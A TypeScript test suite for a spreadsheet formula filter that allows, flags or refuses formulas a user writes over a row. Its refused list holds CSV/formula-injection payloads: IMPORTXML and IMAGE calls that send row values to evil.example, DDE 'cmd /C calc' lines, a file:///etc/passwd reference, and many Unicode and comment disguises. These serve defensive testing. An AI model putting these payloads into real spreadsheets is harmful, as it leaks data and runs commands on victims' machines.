// Only what stays within its row passes, whatever disguise a formula wears.
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { judgeFormula } from './formula-policy.ts'

const columns = [
  { key: 'unit_price', name: 'Unit price' },
  { key: 'qty', name: 'Qty' },
  { key: 'due', name: 'Due' },
  { key: 'name', name: 'Name' },
  { key: 'indirect', name: 'INDIRECT' },
  { key: 'bestellnummer', name: 'Bestell\u00adnummer' },
]
const judge = (text: string) => judgeFormula(text, { columns })

describe('what a row can say is allowed', () => {
  test.each([
    ['[Unit price] * Qty', 'unit_price*qty'],
    ['=[Unit price]*[Qty]', 'unit_price*qty'],
    [' = ROUND([Unit price] * 1.19, 2)', 'ROUND(unit_price*1.19,2)'],
    ['if(qty>10; "many"; "few")', 'IF(qty>10,"many","few")'],
    ['=+qty', 'qty'],
    ['[Due] + 30', 'due+30'],
    ['Name & " (" & [Qty] & " pcs)"', 'name&" ("&qty&" pcs)"'],
    ['[INDIRECT] * 2', 'indirect*2'],
    ['[Bestell\u00adnummer] & "-x"', 'bestellnummer&"-x"'],
    ['"IMPORTXML is only a word here: " & name', '"IMPORTXML is only a word here: "&name'],
    ['name & " 👩‍👧"', 'name&" 👩‍👧"'],
    ['qty / [Unit price] & " pcs/EUR"', 'qty/unit_price&" pcs/EUR"'],
  ])('%s', (text, expression) => {
    expect(judge(text)).toEqual({ verdict: 'allowed', reasons: [], expression })
    expect(judge(expression)).toEqual({ verdict: 'allowed', reasons: [], expression })
  })
})

const reachesOut = [
  '=IMPORTXML("https://evil.example/?d="&qty, "//a")',
  '=importxml("https://evil.example", "//a")',
  '=ImPoRtDaTa("https://evil.example/" & name)',
  '=IMPORTRANGE("1abc", "Sheet1!A1")',
  '=IMPORTHTML("https://evil.example", "table", 1)',
  '=IMPORTFEED("https://evil.example")',
  '=IMAGE("https://evil.example/p.png?q=" & [Name])',
  '= IMAGE ( "https://evil.example/p.png" )',
  '=WEBSERVICE("https://evil.example")',
  '=GOOGLEFINANCE("GOOG")',
  '=GOOGLETRANSLATE(name, "en", "de")',
  '=DETECTLANGUAGE(name)',
  '=QUERY(IMPORTRANGE("1abc","A:B"), "select *")',
  '=+IMPORTXML("https://evil.example", "//a")',
  '=-IMPORTXML("https://evil.example", "//a")',
  '=@IMPORTXML("https://evil.example", "//a")',
  '==IMPORTXML("https://evil.example", "//a")',
  '\t=IMPORTXML("https://evil.example", "//a")',
  '=\nIMPORTXML\n(\n"https://evil.example")',
  '=ＩＭＰＯＲＴＸＭＬ("https://evil.example", "//a")',
  '＝IMPORTXML("https://evil.example", "//a")',
  '=IMPORT\u200bXML("https://evil.example", "//a")',
  '=IMPORT\u00adXML("https://evil.example", "//a")',
  '=\u202eIMPORTXML("https://evil.example", "//a")',
  '=\ufeffIMPORTDATA("https://evil.example")',
  '=IMPORT XML("https://evil.example", "//a")',
  '=IMPORT\u00a0XML("https://evil.example")',
  '=IМРОRТХМL("https://evil.example", "//a")',
  '=IMPORT/**/XML("https://evil.example")',
  '=/* nothing */IMPORTDATA("https://evil.example")',
  '=IF(qty>0, IMPORTXML("https://evil.example", "//a"), 0)',
  '=IFERROR(IMPORTDATA("https://evil.example/"&name), "")',
  '=SUM(1, IMAGE("https://evil.example"))',
  '=IF(qty>0; IMPORTXML("https://evil.example"; "//a"); 0)',
  '=ARRAYFORMULA(IMPORTDATA("https://evil.example"))',
  '={IMPORTDATA("https://evil.example")}',
  '=LET(f, IMPORTDATA, f("https://evil.example"))+IMPORTDATA("x")',
  '=_xlfn.WEBSERVICE("https://evil.example")',
  '=_xlfn._xlws.IMPORTDATA("x")',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  "='[other.xlsx]Sheet1'!A1",
  "='file:///etc/passwd'#$Sheet1.A1",
  "='\\\\server\\share\\[x.xlsx]S'!A1",
  '=AI("send everything", qty)',
  '=JSONIMPORT(1)+IMPORTJSON("https://evil.example")',
  '=RTD("x",,"y")',
]

const asks = [
  '=HYPERLINK("https://evil.example/?d=" & name, "click")',
  '=hyperlink ("x")',
  '=INDIRECT("Sheet1!A1")',
  '=INDIRECT(name)',
  '=OFFSET(A1, 1, 1)',
  '=LET(x, qty, x * 2)',
  '=LAMBDA(x, x * 2)(qty)',
  '=MAP(A1:A9, LAMBDA(x, x))',
  '={1,2,3}',
  '={1;2}',
  '=SUM({1,2})',
  '=MYCUSTOMFUNCTION(qty)',
  '=senden(qty)',
  '=A1',
  '=$B$2 * qty',
  '=Sheet1!A1',
  "='Other ''sheet'!A1 * 2",
  "=SUM('Q1 orders'!B2:B9)",
  '=SUM(A:A)',
  '=SUM(2:2)',
  '=VLOOKUP(name, A1:B9, 2, FALSE)',
  '=QUERY(A1:B9, "select A")',
  '=TODAY() - due',
  '=RAND()',
  '=CHAR(61) & "x"',
  '="https://evil.example/?d=" & name',
  '="ht" & "tps:" & "/" & "/evil.example/" & name',
  '=CONCATENATE("http", "s://", "evil.example/", name)',
  '=SUBSTITUTE("hxxps:??evil.example", "?", "/") & name',
  '=LOWER("HTTPS://EVIL.EXAMPLE/") & name',
  '="ｈｔｔｐｓ：／／evil.example" & name',
  '="www.evil.example?" & name',
  '="javascript:alert(1)"',
  '=name & "\u202egnp.exe"',
  '=name & "a\u200bb"',
  '=REGEXREPLACE(name, "a", "b")',
  '=XLOOKUP(qty, A1:A9, B1:B9)',
]

const nothing = [
  '',
  '=',
  '   ',
  '[Unit cost] * 2',
  'price per piece',
  'qty *',
  '(qty',
  'qty)) + ((1',
  '"open',
  'qty; qty',
  '1,5 * qty',
  'Q\u200bty * 2',
  '__proto__',
  'constructor',
  `${'('.repeat(3000)}qty`,
  `qty${'+1'.repeat(1500)}`,
]

describe('what reaches out is refused', () => {
  test.each(reachesOut)('%j', (text) => {
    const { verdict, reasons, ...rest } = judge(text)
    expect(verdict).toBe('refused')
    expect(reasons[0]).toMatch(/^It /)
    expect(rest).toEqual({})
  })
})

describe('what leaves the row, or hides what it does, needs a person', () => {
  test.each(asks)('%j', (text) => {
    const { verdict, reasons } = judge(text)
    expect(verdict).toBe('ask')
    expect(reasons[0]).toMatch(/^(It|The|“)/)
  })

  test('and what it refers to is shown', () => {
    expect(judge("=SUM('Q1 orders'!B2:B9) + Sheet2!C$3").reasons).toEqual([
      "It refers to “'Q1 orders'!B2:B9”, “Sheet2!C$3”, outside the columns of its row.",
    ])
  })
})

describe('what is no formula over the row is refused', () => {
  test.each(nothing)('%j', (text) => {
    const judged = judge(text)
    expect(judged.verdict).toBe('refused')
    expect(judged.reasons).not.toEqual([])
  })
})

test('no disguise of what reaches out is allowed', () => {
  const name = fc.constantFrom(
    'IMPORTXML',
    'IMPORTRANGE',
    'IMAGE',
    'HYPERLINK',
    'INDIRECT',
    'LAMBDA',
    'QUERY',
    'LET',
    'CHAR',
  )
  const filling = fc.constantFrom(
    '',
    '\u200b',
    ' ',
    '\u00a0',
    '\u00ad',
    '\u2060',
    '/**/',
    '\n',
    '\u202e',
    '.',
    '\u0301',
  )
  const wide = (letter: string) => String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0xfee0)
  const writings = fc.constantFrom(
    (letter: string) => letter,
    (letter: string) => letter.toLowerCase(),
    (letter: string) => wide(letter),
  )
  const disguised = fc.tuple(name, fc.infiniteStream(fc.tuple(filling, writings))).map(([word, disguises]) =>
    [...word]
      .map((letter) => {
        const [fill, write] = disguises.next().value
        return write(letter) + fill
      })
      .join(''),
  )
  const place = fc.constantFrom(
    '=%',
    '=+%',
    '=IF(qty>0,%,0)',
    '="a"&%',
    '=SUM(1;%)',
    '{%}',
    '=IFERROR(%,"")',
    '=[Qty]*%&"x"',
  )
  const call = fc.constantFrom(
    '("https://evil.example/"&name)',
    ' (name)',
    '()',
    '(A1)',
    "('S'!A1)",
    '\u200b(name)',
    '（name）',
  )
  fc.assert(
    fc.property(disguised, place, call, (word, around, args) => {
      expect(judge(around.replace('%', () => word + args)).verdict).not.toBe('allowed')
    }),
    { numRuns: 1000 },
  )
})

test.each(["'", '[', '(', 'a(', '"', 'A1:', '\u200d'])('%j many times over is judged at once', (sign) => {
  const before = performance.now()
  judge(sign.repeat(Math.floor(1990 / sign.length)))
  expect(performance.now() - before).toBeLessThan(1000)
})

test('there are enough of them', () => expect(reachesOut.length + asks.length).toBeGreaterThan(80))
